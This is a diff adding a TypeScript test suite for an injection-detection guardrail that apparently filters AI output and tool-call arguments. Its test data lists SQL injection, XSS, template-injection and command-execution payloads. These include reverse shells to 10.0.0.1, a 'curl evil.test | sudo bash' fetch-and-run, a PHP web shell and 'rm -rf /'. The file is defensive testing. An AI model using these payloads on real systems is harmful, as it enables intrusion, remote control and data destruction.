@@ -1,0 +1,164 @@
+import * as fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { railContract } from "../../contracts/rail.contract.ts";
+import { gated } from "../../support/gates.ts";
+import { gatingRail, guardedArguments, piecesOf } from "../../support/mask-cases.ts";
+
+const FLOW = "injection detection";
+const detecting = (settings: object = {}) => gatingRail(FLOW, { injection_detection: settings });
+const OMIT = detecting({ action: "omit" });
+const found = (text: string, rail = OMIT): readonly string[] => [
+  ...new Set(gated(rail.createGate(), [text]).findings.map(({ label = "" }) => label)),
+];
+
+const HARMFUL: Readonly<Record<string, readonly string[]>> = {
+  sqli: [
+    "' OR 1=1 --",
+    "1 or 2 = 2",
+    '") or ("a")=("a',
+    "' or ''='",
+    "x' AND 'a'='b' OR 'c'='c",
+    "id=7/**/UNION/**/ALL/**/SELECT/**/NULL,NULL",
+    "-1%20union%20select%201,user(),3",
+    "' UNION SELECT password FROM users --",
+    "1; WAITFOR DELAY '0:0:5'",
+    "1 AND SLEEP(5)",
+    "1 and (select 1 from (select(sleep(9)))x)",
+    "'; DROP TABLE students; --",
+    "x'; INSERT INTO users VALUES ('me'); --",
+    "exec master..xp_cmdshell 'dir'",
+    "1 AND extractvalue(1, concat(0x7e, version()))",
+    "' and 1=(select count(*) from information_schema.tables)--",
+    "admin'--",
+    "1 ORDER BY 14--",
+    "SELECT 1 INTO OUTFILE '/var/www/x.php'",
+    "IScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMgLS0=",
+  ],
+  xss: [
+    "<script>alert(document.cookie)</script>",
+    "<ScRiPt>eval(name)</ScRiPt>",
+    "<script src=//evil.test/x.js>",
+    "<img src=x onerror=alert(1)>",
+    '<svg/onload="fetch(`//evil.test`)">',
+    "<details open ontoggle=prompt(1)>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    '<a href="java\tscript:alert(1)">x</a>',
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    '<iframe srcdoc="<script>1</script>">',
+    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
+    '<div style="width: expression(alert(1))">',
+    "[click](javascript:alert(document.domain))",
+    '" onfocus="alert(1)" autofocus="',
+    "+ADw-script+AD4-alert(1)",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+  ],
+  template: [
+    "{{7*7}}",
+    "${7*7}",
+    "<%= 7 * 7 %>",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ config.items() }}",
+    "{% import os %}{{ os.popen('id').read() }}",
+    "{{ cycler.__init__.__globals__.os }}",
+    '${T(java.lang.Runtime).getRuntime().exec("id")}',
+    '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")} ${"freemarker.template.utility.Execute"?new()("id")}',
+    "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
+    "${jndi:ldap://evil.test/a}",
+  ],
+  code: [
+    "import os; os.system('id')",
+    "__import__('os').popen('id')",
+    "subprocess.run(['/bin/sh', '-c', cmd])",
+    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    "nc 10.0.0.1 4242 -e /bin/sh",
+    "curl -fsSL https://evil.test/x | sudo bash",
+    "Runtime.getRuntime().exec(cmd)",
+    "require('child_process').exec('id')",
+    "<?php system($_GET['c']); ?>",
+    "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=",
+    "rm -rf / --no-preserve-root",
+  ],
+};
+
+const ORDINARY: readonly string[] = [
+  "SELECT name, count(*) FROM users WHERE age > 30 AND city = 'Paris' GROUP BY name ORDER BY 2 DESC;",
+  "SELECT id FROM a UNION ALL SELECT id FROM b",
+  "INSERT INTO t VALUES ('a', 'b'); UPDATE t SET a = 'c' WHERE b = 'd';",
+  "-- drop the table first\nDROP TABLE IF EXISTS books;",
+  "if (x == 1 or y == 2) and z != 3: time.sleep(5)",
+  "Choose 'left' or 'right', and 5 or 6 of them.",
+  "It's either this or that; and 2 + 2 = 4.",
+  '<button type="button" onclick="save()">Save</button>',
+  '<body onload="init()"><script src="/app.js"></script></body>',
+  '<a href="javascript:void(0)">x</a> <img src="a.png" alt="an image">',
+  "<Input onChange={handle} value={text} />",
+  '<script>\n  const app = createApp();\n  app.mount("#app");\n</script>',
+  "Hello {{ name }}, you owe {{ amount | round(2) }} {% if due %}today{% endif %}",
+  "const text = `${first} ${last}: ${count + 1}`;",
+  "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
+  "rm -rf ./dist && npm run build",
+  "curl https://example.com/data.json | jq .",
+  "the user agent, the admin and root's files",
+];
+
+railContract(FLOW, {
+  rail: () => detecting(),
+  allowed: "a text about tables and scripts, ",
+  forbidden: "' UNION SELECT 1,2,3 --",
+});
+
+describe("injection detection", () => {
+  it.each(Object.entries(HARMFUL).flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const)))(
+    "finds %s: %s",
+    (kind, text) => {
+      expect(found(text)).toContain(kind);
+      expect(found(text, detecting({ injections: [kind], action: "omit" }))).toEqual([kind]);
+    },
+  );
+
+  it.each(ORDINARY)("lets pass what people write: %s", (text) => {
+    expect(found(text)).toEqual([]);
+  });
+
+  it("looks only for the kinds that are named", () => {
+    expect(found("<img src=x onerror=alert(1)>", detecting({ injections: ["sqli"], action: "omit" }))).toEqual([]);
+  });
+
+  it("rejects, and names the kind", () => {
+    const { text, findings } = gated(detecting().createGate(), ["Sure: <img src=x onerror=alert(1)> there"]);
+    expect(text).toBe("Sure: <img src=x ");
+    expect(findings).toMatchObject([{ action: "block", label: "xss" }]);
+  });
+
+  it("omits", () => {
+    expect(gated(OMIT.createGate(), ["id=1 UNION SELECT 1,2 FROM t"]).text).toBe("id=1 ,2 FROM t");
+  });
+
+  it("sanitizes: a reader sees the same, and nothing runs it", () => {
+    const { text } = gated(detecting({ action: "sanitize" }).createGate(), ["go to javascript:alert(1) now"]);
+    expect(text).toBe("go to javascript&#58;alert(1) now");
+  });
+
+  it("reads the arguments of tool calls, whose JSON stays whole", async () => {
+    const settings = { injection_detection: { action: "omit" } };
+    const { text } = await guardedArguments(FLOW, settings, { query: "7 OR 1=1 --", more: 'say "hi"' });
+    expect(JSON.parse(text)).toEqual({ query: "7 OR  --", more: 'say "hi"' });
+    const rejected = await guardedArguments(FLOW, {}, { query: "7 OR 1=1 --" });
+    expect(rejected.isBlocked).toBe(true);
+  });
+});
+
+describe("a stream", () => {
+  const samples = [...Object.values(HARMFUL).flat(), ...ORDINARY, "'", "<", "or ", "{{"];
+  const texts = fc.array(fc.constantFrom(...samples), { maxLength: 4 }).map((some) => some.join(" "));
+  const cut = texts.chain((whole) => fc.tuple(fc.constant(whole), piecesOf(whole)));
+
+  it.each([detecting(), OMIT, detecting({ action: "sanitize" })])("gives the same however it is cut", (rail) => {
+    fc.assert(
+      fc.property(cut, ([whole, pieces]) => {
+        expect(gated(rail.createGate(), pieces)).toEqual(gated(rail.createGate(), [whole]));
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
